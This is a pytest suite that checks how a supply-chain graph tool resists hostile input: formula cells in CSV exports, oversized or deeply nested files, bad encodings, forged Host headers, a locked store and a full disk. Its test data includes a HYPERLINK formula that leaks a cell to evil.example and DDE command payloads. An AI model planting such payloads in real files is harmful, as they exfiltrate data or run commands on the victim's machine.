"""Part 9: hostile input, round two (issue 15).

Each class of attack the second hostile tester found is tried here against the real parts (the
loader, the embedded store, the CLI in a subprocess, the API over TestClient), and tallied in the
``round_two`` figures: how many attempts of each class were made and how many were held (refused
clearly, or made harmless).

Classes: formula cells in exports, deep hierarchies, wide files, deeply nested manifests,
XML-invalid names, foreign encodings, Host headers, a locked store, a full disk.
"""

from __future__ import annotations

import csv
import io
import re

import networkx as nx
import pytest
from typer.testing import CliRunner

from chainx.cli import app as cli
from graph.errors import DatasetError
from graph.export import write_graph_file
from graph.model import GraphData, Node, Relationship
from graph.store import reads
from graph.store.sqlite import SqliteStore
from loaders.pipeline import load_path
from loaders.read import read_dataset
from loaders.validate import validate


def tally(figures: dict, kind: str, held: bool) -> bool:
    counts = figures.setdefault("round_two", {}).setdefault(kind, {"tried": 0, "held": 0})
    counts["tried"] += 1
    counts["held"] += bool(held)
    return held


def write(folder, files: dict[str, str], encoding: str = "utf-8"):
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in files.items():
        (folder / name).write_bytes(text.encode(encoding) if isinstance(text, str) else text)
    return folder


def problems_of(folder) -> list[str]:
    with pytest.raises(DatasetError) as caught:
        validate(read_dataset(folder))
    return [str(p) for p in caught.value.problems]


# -- formula cells --------------------------------------------------------------------------------
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
DDE = "-2+3+cmd|' /C calc'!A0"
FORMULAS = (HYPERLINK, DDE, "@SUM(1+1)*cmd|' /C calc'!A0", "+HYPERLINK(\"http://x\")", "=1+1", "\t=1+1", "\r=1+1", "-四氟苯甲酰氯")


@pytest.mark.parametrize("cell, column", [
    (f'"x;{HYPERLINK.replace(chr(34), chr(34) * 2)}"', "aliases"),
    (f'";{HYPERLINK.replace(chr(34), chr(34) * 2)}"', "aliases"),
    (f'"a; {DDE}"', "aliases"),
])
def test_a_formula_hidden_in_a_list_item_is_refused_at_load_naming_the_cell(tmp_path, figures, cell, column):
    folder = write(tmp_path / "d", {"stages.csv": f"id,name,{column}\ns1,纺丝,ok\ns2,织造,{cell}\n"})
    found = problems_of(folder)
    assert tally(figures, "formula cells", any(p.startswith(f"stages.csv:3: {column}: the item ") and "spreadsheet formula" in p for p in found)), found


def test_a_formula_in_an_enterprise_tag_is_refused(tmp_path, figures):
    folder = write(tmp_path / "d", {
        "stages.csv": "id,name\ns1,纺丝\n", "regions.csv": "id,name\nr,地\n",
        "enterprises.csv": f"id,name,region,tags\ne1,甲,r,\"ok;{DDE}\"\n",
    })
    found = problems_of(folder)
    assert tally(figures, "formula cells", any(p.startswith("enterprises.csv:2: tags: the item ") for p in found)), found


@pytest.fixture
def hostile_store(tmp_path):
    """A store written directly (not through the loader, which refuses them), holding every
    formula in names, aliases, tags, descriptions, extra properties and relationship keys."""
    nodes = [Node("Region", "r", "地")]
    relationships = []
    for i, formula in enumerate(FORMULAS):
        nodes.append(Node("Stage", f"s{i}", formula, {"aliases": ["ok", formula], "description": formula, "note": formula}))
        nodes.append(Node("Enterprise", f"e{i}", formula, {"region": "r", "tags": [formula, "x"]}))
        relationships += [Relationship("OPERATES_IN", f"e{i}", f"s{i}"), Relationship("LOCATED_IN", f"e{i}", "r"),
                          Relationship("SUPPLIES", f"e{i}", f"e{(i + 1) % len(FORMULAS)}", formula, {"note": formula})]
    store = SqliteStore(tmp_path / "hostile.db", create=True)
    store.write(GraphData(nodes=nodes, relationships=relationships))
    yield store
    store.close()


# OWASP's list of the characters a formula may start with (tab and line ends included)
TRIGGERS, BLANK_TRIGGERS = ("=", "+", "-", "@"), ("\t", "\r", "\n")


def live_formula(cell: str) -> bool:
    """Whether a spreadsheet cell would run as a formula: it starts with a trigger (after blanks,
    as some importers trim them) and is no plain number."""
    stripped = cell.lstrip(" \t\r\n")
    return (cell[:1] in BLANK_TRIGGERS or stripped[:1] in TRIGGERS) and re.fullmatch(r"[+-]?[\d.]+", cell.strip()) is None


def cells_of(text: str) -> list[str]:
    """Every cell of a CSV text, and every ";"-separated item of one (a list column, which a
    spreadsheet told to split on ";" turns into cells of their own)."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return cells + [item for cell in cells if ";" in cell for item in cell.split(";")]


def test_csv_export_holds_no_live_formula_in_any_cell_nor_after_a_semicolon(hostile_store, tmp_path, figures):
    out = tmp_path / "export"
    result = CliRunner().invoke(cli, ["export", "--format", "csv", "-o", str(out), "--store", str(hostile_store.path)])
    assert result.exit_code == 0, result.output
    files = sorted(out.glob("*.csv"))
    assert files
    for file in files:
        live = [cell for cell in cells_of(file.read_text(encoding="utf-8-sig")) if live_formula(cell)]
        assert tally(figures, "formula cells", not live), (file.name, live)


def test_the_csv_export_loads_back_into_the_same_texts(tmp_path):
    """The apostrophe the export puts in front of -四氟苯甲酰氯 is taken off by the loader."""
    folder = write(tmp_path / "d", {"stages.csv": "id,name,aliases\ns1,-四氟苯甲酰氯,\"+氯;-氟\"\n"})
    with SqliteStore(tmp_path / "a.db", create=True) as store:
        load_path(store, folder)
        CliRunner().invoke(cli, ["export", "--format", "csv", "-o", str(tmp_path / "out"), "--store", str(tmp_path / "a.db")])
    assert "'-四氟苯甲酰氯" in (tmp_path / "out" / "stages.csv").read_text(encoding="utf-8-sig")
    with SqliteStore(tmp_path / "b.db", create=True) as store:
        load_path(store, tmp_path / "out")
        node = reads.get_node(store, "s1")
    assert (node.name, node.props["aliases"]) == ("-四氟苯甲酰氯", ["+氯", "-氟"])


@pytest.mark.parametrize("fmt, read", [("gexf", nx.read_gexf), ("graphml", nx.read_graphml)])
def test_gexf_and_graphml_exports_hold_no_live_formula_in_any_text(hostile_store, tmp_path, figures, fmt, read):
    path = tmp_path / f"g.{fmt}"
    write_graph_file(reads.snapshot(hostile_store), path, fmt)
    graph = read(path)
    texts = [v for _, attrs in graph.nodes(data=True) for v in attrs.values() if isinstance(v, str)]
    texts += [v for *_, attrs in graph.edges(data=True) for v in attrs.values() if isinstance(v, str)]
    assert any(HYPERLINK in t for t in texts)  # the data is there, made harmless
    live = [t for t in texts for item in t.split(";") if live_formula(t) or live_formula(item)]
    assert tally(figures, "formula cells", not live), live


def test_report_csv_holds_no_live_formula(hostile_store, figures):
    result = CliRunner().invoke(cli, ["search", "HYPERLINK", "--store", str(hostile_store.path), "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert "HYPERLINK" in result.output
    live = [cell for cell in cells_of(result.output) if live_formula(cell)]
    assert tally(figures, "formula cells", not live), live


# -- deep hierarchies -------------------------------------------------------------------------------
class CountingParents(dict):
    """A parent map that counts how often a link is followed."""

    lookups = 0

    def get(self, key, default=None):
        type(self).lookups += 1
        return super().get(key, default)


def test_stage_tops_follow_each_part_of_link_once(figures):
    from graph.analysis.stages import _tops

    depth = 3_000
    parents = CountingParents({f"s{i}": [f"s{i - 1}"] for i in range(1, depth)})
    CountingParents.lookups = 0
    tops = _tops([f"s{i}" for i in range(depth)], parents, {}, {})
    assert tops == {f"s{i}": "s0" for i in range(depth)}  # by construction: s0 is the only root
    # linear: each stage's parents looked up once (a climb per stage looks up depth²/2)
    assert tally(figures, "deep hierarchies", CountingParents.lookups <= depth), CountingParents.lookups


def test_a_20000_deep_stage_and_region_hierarchy_loads_and_reports(tmp_path, figures):
    from graph.analysis.gaps import gaps
    from graph.analysis.stages import ROLLUP_MAX_BELOW, build_stage_chain
    from graph.regions import region_descendants

    depth = 20_000
    folder = write(tmp_path / "deep", {
        "stages.csv": "id,name,parent\n" + "".join(f"s{i},环节{i},{f's{i - 1}' if i else ''}\n" for i in range(depth)),
        "regions.csv": "id,name,parent\n" + "".join(f"r{i},地{i},{f'r{i - 1}' if i else ''}\n" for i in range(depth)),
        "enterprises.csv": f"id,name,region\ne1,甲,r{depth - 1}\n",
        "enterprise_stages.csv": f"enterprise,stage\ne1,s{depth - 1}\n",
    })
    with SqliteStore(tmp_path / "deep.db", create=True) as store:
        load_path(store, folder)
        chain = build_stage_chain(store, "top")
        assert chain.stages == ["s0"] and len(chain.members["s0"]) == depth
        # by construction, rolling up only into categories of at most ROLLUP_MAX_BELOW stages:
        # s_i has depth-1-i below it, so the last ROLLUP_MAX_BELOW+1 go into the first of them
        first = depth - 1 - ROLLUP_MAX_BELOW
        auto = build_stage_chain(store, "auto")
        assert len(auto.stages) == first + 1 and auto.top[f"s{depth - 1}"] == f"s{first}" and auto.top[f"s{first - 1}"] == f"s{first - 1}"
        assert len(region_descendants(store, "r0")) == depth
        report = gaps(store, "r0", min_firms=1, rollup="top")
    # the deepest sub-stage's enterprise is in r0 (its region is r0's deepest descendant) and
    # counts for the one top-level stage
    assert tally(figures, "deep hierarchies", report.counts.present == 1 and report.local_enterprises == 1), report.counts


# -- deeply nested manifests ------------------------------------------------------------------------
def test_a_deeply_nested_dataset_json_is_a_clear_problem_on_the_cli_and_a_4xx_over_http(tmp_path, figures):
    import zipfile

    from fastapi.testclient import TestClient

    from api.app import create_app
    from api.settings import Settings

    folder = write(tmp_path / "nested", {"stages.csv": "id,name\ns1,纺丝\n", "dataset.json": "[" * 200_000})
    with SqliteStore(tmp_path / "n.db", create=True):
        pass
    result = CliRunner().invoke(cli, ["load", str(folder), "--store", str(tmp_path / "n.db")])
    assert result.exit_code != 0 and "dataset.json:1: nested too deeply" in result.output and "Recursion" not in result.output, result.output
    archive = tmp_path / "nested.zip"
    with zipfile.ZipFile(archive, "w") as zipped:
        for child in folder.iterdir():
            zipped.write(child, child.name)
    key = "round-two-key-0123456789"
    with TestClient(create_app(Settings(store=str(tmp_path / "n.db"), api_key=key))) as client:
        response = client.post("/datasets", files={"file": ("nested.zip", archive.read_bytes(), "application/zip")}, headers={"X-API-Key": key})
    problems = response.json()["error"].get("problems", [])
    assert tally(figures, "nested manifests", response.status_code == 422 and problems and problems[0]["file"] == "dataset.json"), response.text


# -- XML-invalid names ------------------------------------------------------------------------------
@pytest.mark.parametrize("fmt, read", [("gexf", nx.read_gexf), ("graphml", nx.read_graphml)])
def test_every_export_with_xml_invalid_characters_parses(tmp_path, figures, fmt, read):
    bad = "名\ufffe称\uffff\x01\x1f"
    data = GraphData(nodes=[Node("Stage", "s\ufffe1", bad, {"aliases": [bad], "description": bad, f"k\x02{bad}": bad}),
                            Node("Stage", "s2", "ok")],
                     relationships=[Relationship("FEEDS", "s\ufffe1", "s2", "", {"note": bad})])
    path = tmp_path / f"x.{fmt}"
    write_graph_file(data, path, fmt)
    graph = read(path)  # raises on invalid XML
    names = {attrs.get("name") for _, attrs in graph.nodes(data=True)}
    assert tally(figures, "XML-invalid names", "名\\ufffe称\\uffff\\u0001\\u001f" in names and graph.number_of_edges() == 1), names


# -- a locked store ---------------------------------------------------------------------------------
def test_a_locked_store_is_busy_on_the_cli_and_a_503_over_http_and_health_answers_from_memory(textile_db, monkeypatch, figures):
    import sqlite3

    from fastapi.testclient import TestClient

    from api.app import create_app
    from api.settings import Settings
    from tests.adversarial.conftest import fingerprint, run_chainx

    with SqliteStore(textile_db) as store:
        before, version = fingerprint(store), store.version()
    # a short wait, so the test does not sit out the default; the lock is real: another
    # connection's exclusive transaction, as a load's commit holds it
    monkeypatch.setenv("CHAINX_BUSY_SECONDS", "0.2")
    with TestClient(create_app(Settings(store=str(textile_db)))) as client:
        assert client.get("/health").json()["version"] == version
        locker = sqlite3.connect(textile_db, isolation_level=None)
        locker.execute("BEGIN EXCLUSIVE")
        try:
            stats = client.get("/stats")
            health = client.get("/health")
            cli_result = run_chainx("stats", "--store", str(textile_db), env={"CHAINX_BUSY_SECONDS": "0.2"})
        finally:
            locker.execute("ROLLBACK")
            locker.close()
        after = client.get("/stats")
    held = (stats.status_code == 503 and stats.json()["error"]["type"] == "StoreBusy" and "store busy" in stats.json()["error"]["message"]
            and stats.headers.get("retry-after") is not None)
    assert tally(figures, "locked store", held), (stats.status_code, stats.text)
    # /health: up, and says so, with the version it read before the lock
    assert tally(figures, "locked store", health.status_code == 200 and health.json()["status"] == "busy" and health.json()["version"] == version), health.text
    lines = cli_result.stderr.strip().splitlines()
    assert tally(figures, "locked store", cli_result.returncode != 0 and len(lines) == 1 and "store busy" in lines[0]
                 and "not a chainx store" not in lines[0] and "CHAINX_BUSY_SECONDS" in lines[0]), cli_result.stderr
    assert after.status_code == 200  # the lock gone, the same connection reads again
    with SqliteStore(textile_db) as store:
        assert fingerprint(store) == before


# -- Host headers ---------------------------------------------------------------------------------
@pytest.mark.parametrize("host, allowed, extra", [
    ("attacker.example", False, ""),
    ("attacker.example:8000", False, ""),
    ("127.0.0.1.attacker.example", False, ""),
    ("localhost.attacker.example", False, ""),
    ("", False, ""),
    ("localhost:8000", True, ""),
    ("127.0.0.1:8000", True, ""),
    ("[::1]:8000", True, ""),
    ("chain.lab.example", True, "chain.lab.example"),
    ("other.lab.example", False, "chain.lab.example"),
])
def test_the_host_header_is_checked_against_the_allow_list(textile_db, monkeypatch, figures, host, allowed, extra):
    from fastapi.testclient import TestClient

    from api.app import create_app
    from api.settings import Settings

    monkeypatch.setenv("CHAINX_ALLOWED_HOSTS", extra)
    # a DNS-rebinding page: same origin as far as the browser knows
    headers = {"Host": host, "Origin": f"http://{host}"}
    with TestClient(create_app(Settings(store=str(textile_db)))) as client:
        response = client.get("/stats", headers=headers)
    if allowed:
        assert tally(figures, "Host headers", response.status_code == 200), response.text
    else:
        message = response.json()["error"]["message"]
        assert tally(figures, "Host headers", response.status_code == 403 and "CHAINX_ALLOWED_HOSTS" in message and "not allowed" in message), response.text


def test_chainx_serve_answers_to_the_address_it_binds_to_and_refuses_another_host(textile_db, figures):
    import http.client

    from tests.serve import chainx_serve

    # bound to every interface: its bind address is one of its names (not a loopback one, so
    # only the addition lets it in), a stranger's name is not
    with chainx_serve(str(textile_db), env={"CHAINX_ALLOWED_HOSTS": ""}, host="0.0.0.0") as base:
        port = int(base.rsplit(":", 1)[1])
        statuses = {}
        for name in (f"0.0.0.0:{port}", f"127.0.0.1:{port}", f"attacker.example:{port}"):
            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
            connection.request("GET", "/health", headers={"Host": name})
            statuses[name] = connection.getresponse().status
            connection.close()
    assert tally(figures, "Host headers", statuses == {f"0.0.0.0:{port}": 200, f"127.0.0.1:{port}": 200, f"attacker.example:{port}": 403}), statuses


# -- wide files -----------------------------------------------------------------------------------
def _wide_stages(columns: int, rows: int = 3) -> str:
    header = "id,name," + ",".join(f"x{i}" for i in range(columns))
    return header + "\n" + "".join(f"s{r},环节{r}," + ",".join("宽" for _ in range(columns)) + "\n" for r in range(rows))


def test_a_file_of_too_many_columns_is_refused_naming_the_file_the_limit_and_the_variable(tmp_path, textile_db, figures):
    from tests.adversarial.conftest import fingerprint, run_chainx

    folder = write(tmp_path / "wide", {"stages.csv": _wide_stages(2_000)})
    with SqliteStore(textile_db) as store:
        before = fingerprint(store)
    result = run_chainx("load", str(folder), "--store", str(textile_db))
    assert tally(figures, "wide files", result.returncode == 1 and "stages.csv:1: has 2,002 columns; at most 1,000 columns are accepted "
                 "(raise the limit with CHAINX_MAX_COLUMNS)" in result.stderr and "Traceback" not in result.stderr), result.stderr
    with SqliteStore(textile_db) as store:
        assert fingerprint(store) == before
    # the limit is the user's to raise for a trusted file
    raised = run_chainx("load", str(folder), "--store", str(textile_db), env={"CHAINX_MAX_COLUMNS": "5000"})
    assert raised.returncode == 0, raised.stderr


def test_a_row_of_too_many_bytes_is_refused(tmp_path, monkeypatch, figures):
    # 15 cells of 90,000 characters, each under the cell limit: 1,350,000 bytes, over 1 MiB
    cells = ["a" * 90_000] * 15
    folder = write(tmp_path / "fat", {"stages.csv": "id,name," + ",".join(f"x{i}" for i in range(15)) + "\ns1,纺丝," + ",".join(cells) + "\ns2,织造" + "," * 15 + "\n"})
    expected = (f"stages.csv:2: the row (one record's properties) has {15 * 90_000 + 2 + 6:,} bytes; at most {1024 * 1024:,} bytes are accepted "
                "(raise the limit with CHAINX_MAX_ROW_BYTES)")
    assert tally(figures, "wide files", problems_of(folder) == [expected]), problems_of(folder)
    monkeypatch.setenv("CHAINX_MAX_ROW_BYTES", str(2 * 1024 * 1024))
    assert len(validate(read_dataset(folder)).nodes) == 2


def test_a_zip_expanding_past_the_variable_s_limit_is_refused(tmp_path, monkeypatch, figures):
    import zipfile

    archive = tmp_path / "wide.zip"
    text = _wide_stages(200, rows=250)
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr("stages.csv", text)
    monkeypatch.setenv("CHAINX_MAX_UNZIPPED_BYTES", "100000")
    size = len(text.encode("utf-8"))
    assert size > 100_000  # by construction: 250 rows of 200 cells of 3 bytes and a comma
    assert tally(figures, "wide files", problems_of(archive) == [
        f"wide.zip: would expand to {size:,} bytes; at most 100,000 bytes are accepted (raise the limit with CHAINX_MAX_UNZIPPED_BYTES)"]), problems_of(archive)


# -- foreign encodings ----------------------------------------------------------------------------
@pytest.mark.parametrize("names", [
    ["Müller Spinnerei GmbH"],
    ["Zürich Weberei", "Straße 5 Textil"],
    ["Ågård Textil A/S"],
    ["Café Crème SARL"],  # GB18030 cannot even decode this one
])
def test_a_cp1252_file_is_refused_naming_the_file_and_loads_with_its_encoding(tmp_path, figures, names):
    from tests.adversarial.conftest import run_chainx

    text = "id,name\n" + "".join(f"s{i},{name}\n" for i, name in enumerate(names, start=1))
    folder = write(tmp_path / "latin", {"stages.csv": text}, encoding="cp1252")
    refused = run_chainx("load", str(folder), "--store", str(tmp_path / "l.db"))
    assert tally(figures, "foreign encodings", refused.returncode == 1 and "stages.csv:2: " in refused.stderr
                 and "--encoding cp1252" in refused.stderr and "Traceback" not in refused.stderr), refused.stderr
    loaded = run_chainx("load", str(folder), "--store", str(tmp_path / "l.db"), "--encoding", "cp1252")
    assert loaded.returncode == 0, loaded.stderr
    with SqliteStore(tmp_path / "l.db") as store:
        assert sorted(n.name for n in store.nodes(["Stage"])) == sorted(names)  # as written, not garbled


def test_gbk_chinese_still_loads_without_an_encoding_and_an_unknown_encoding_is_a_clear_error(tmp_path):
    from tests.adversarial.conftest import run_chainx

    # simplified names with a traditional one among them (GBK holds both)
    names = ["涤纶长丝", "纺丝", "织造", "印染", "臺灣紡織"]
    text = "id,name\n" + "".join(f"s{i},{name}\n" for i, name in enumerate(names, start=1))
    folder = write(tmp_path / "gbk", {"stages.csv": text}, encoding="gbk")
    raw = read_dataset(folder)
    assert raw.tables["stages.csv"].encoding == "gb18030" and [cells[1] for _, cells in raw.tables["stages.csv"].rows] == names
    unknown = run_chainx("load", str(folder), "--store", str(tmp_path / "g.db"), "--encoding", "klingon")
    assert unknown.returncode == 1 and "encoding: unknown encoding 'klingon'" in unknown.stderr, unknown.stderr


# -- a full disk ----------------------------------------------------------------------------------
def _big_stages(folder, count: int = 3_000):
    # about 1.2 MB of descriptions: more than the store may grow by below
    return write(folder, {"stages.csv": "id,name,description\n" + "".join(f"x{i},名{i},{'描述' * 200}\n" for i in range(count))})


def test_a_full_store_names_the_disk_on_load_and_is_a_507_over_http(textile_db, tmp_path, figures):
    import zipfile

    from fastapi.testclient import TestClient

    from api.app import create_app
    from api.settings import Settings
    from graph.errors import StoreFull
    from tests.adversarial.conftest import fingerprint

    folder = _big_stages(tmp_path / "big")
    archive = tmp_path / "big.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zipped:
        zipped.write(folder / "stages.csv", "stages.csv")
    with SqliteStore(textile_db) as store:
        before = fingerprint(store)
        # the store may not grow past its present size: SQLite fails the write as on a full disk
        pages = store._db.execute("PRAGMA page_count").fetchone()[0]
        store._db.execute(f"PRAGMA max_page_count = {pages}")
        with pytest.raises(StoreFull) as caught:
            load_path(store, folder)
        assert tally(figures, "full disk", f"disk full at {textile_db}" in str(caught.value) and fingerprint(store) == before), str(caught.value)
        key = "round-two-key-0123456789"
        with TestClient(create_app(Settings(store=str(textile_db), api_key=key), store=store)) as client:
            response = client.post("/datasets", files={"file": ("big.zip", archive.read_bytes(), "application/zip")}, headers={"X-API-Key": key})
        error = response.json()["error"]
        assert tally(figures, "full disk", response.status_code == 507 and error["type"] == "StoreFull" and "disk full at" in error["message"]), response.text
        assert fingerprint(store) == before


def test_a_store_file_that_cannot_grow_is_one_clear_line_on_the_cli(textile_db, tmp_path, figures):
    import os
    import resource
    import signal
    import subprocess
    import sys

    from tests.adversarial.conftest import fingerprint

    folder = _big_stages(tmp_path / "big")
    with SqliteStore(textile_db) as store:
        before = fingerprint(store)
    size = textile_db.stat().st_size

    def file_size_limit():
        # the kernel refuses to let any file grow past the store's size plus a page or two
        # (SIGXFSZ ignored: the write fails instead of killing the process)
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (size + 8192, size + 8192))

    env = {k: v for k, v in os.environ.items() if k != "CHAINX_DEBUG"}
    result = subprocess.run([sys.executable, "-m", "chainx", "load", str(folder), "--store", str(textile_db)],
                            capture_output=True, text=True, env=env, preexec_fn=file_size_limit, timeout=300)
    lines = result.stderr.strip().splitlines()
    assert tally(figures, "full disk", result.returncode == 1 and len(lines) == 1 and f"the store at {textile_db}" in lines[0]
                 and "unexpected" not in lines[0]), result.stderr
    with SqliteStore(textile_db) as store:
        assert fingerprint(store) == before


# -- costly reads ---------------------------------------------------------------------------------
def test_reports_computed_at_once_are_bounded_and_cached_and_cheap_ones_still_answer(textile_db, figures):
    from fastapi.testclient import TestClient

    from api.app import create_app
    from api.settings import Settings

    app = create_app(Settings(store=str(textile_db), max_concurrent_reports=1))
    with TestClient(app) as client:
        assert client.get("/bottlenecks").status_code == 200  # now cached
        # the one slot taken, as a long report in another request takes it
        with app.state.report_cache.slots.taken():
            ties = client.get("/ties")
            view = client.get("/views/ties", params={"format": "json"})
            cached, health = client.get("/bottlenecks"), client.get("/health")
        after = client.get("/ties")
    held = all(r.status_code == 503 and r.json()["error"]["type"] == "Overloaded" and r.headers.get("retry-after") and
               "CHAINX_MAX_CONCURRENT_REPORTS" in r.json()["error"]["message"] for r in (ties, view))
    assert tally(figures, "costly reads", held), (ties.text, view.text)
    assert tally(figures, "costly reads", cached.status_code == 200 and health.status_code == 200 and after.status_code == 200), (cached.text, after.text)


def test_of_many_reports_started_at_once_only_the_bound_computes(figures):
    import threading

    from api.cache import ComputeSlots, Overloaded

    size, callers = 2, 6
    slots = ComputeSlots(size)
    start, hold = threading.Barrier(callers), threading.Barrier(callers)
    outcomes: list[str] = []
    lock = threading.Lock()

    def caller():
        start.wait()
        try:
            with slots.taken():
                with lock:
                    outcomes.append("computed")
                hold.wait()  # every caller has tried before any slot is given back
        except Overloaded:
            with lock:
                outcomes.append("refused")
            hold.wait()

    threads = [threading.Thread(target=caller) for _ in range(callers)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert tally(figures, "costly reads", sorted(outcomes) == ["computed"] * size + ["refused"] * (callers - size)), outcomes


def test_a_neighbourhood_past_the_work_budget_is_refused_naming_depth(tmp_path, monkeypatch, figures):
    from fastapi.testclient import TestClient

    from api.app import create_app
    from api.settings import Settings
    from graph.analysis.paths import neighbors

    # a hub with 40 suppliers, each with 40 suppliers of its own: 40 relationships within one
    # step of the hub, 40 + 40 * 40 = 1,640 within two (by construction)
    firms = ["hub"] + [f"a{i}" for i in range(40)] + [f"a{i}_{j}" for i in range(40) for j in range(40)]
    links = [Relationship("SUPPLIES", f"a{i}", "hub") for i in range(40)]
    links += [Relationship("SUPPLIES", f"a{i}_{j}", f"a{i}") for i in range(40) for j in range(40)]
    with SqliteStore(tmp_path / "hub.db", create=True) as store:
        store.write(GraphData(nodes=[Node("Enterprise", f, f) for f in firms], relationships=links))
        monkeypatch.setenv("CHAINX_MAX_NEIGHBOURHOOD", "1000")
        assert neighbors(store, "hub", depth=1).total == 40
        with TestClient(create_app(Settings(store=str(tmp_path / "hub.db")))) as client:
            deep = client.get("/nodes/Enterprise/hub/neighbors", params={"depth": 2})
            ego = client.get("/views/ego/enterprise/hub", params={"depth": 3, "format": "json"})
        monkeypatch.setenv("CHAINX_MAX_NEIGHBOURHOOD", "1640")
        assert neighbors(store, "hub", depth=2).total == 40 + 1600  # the budget exactly met is enough
    error = deep.json()["error"]
    assert tally(figures, "costly reads", deep.status_code == 422 and error["parameter"] == "depth" and "ask for depth 1" in error["message"]
                 and "CHAINX_MAX_NEIGHBOURHOOD" in error["message"]), deep.text
    assert tally(figures, "costly reads", ego.status_code == 422 and "CHAINX_MAX_NEIGHBOURHOOD" in ego.text), ego.text
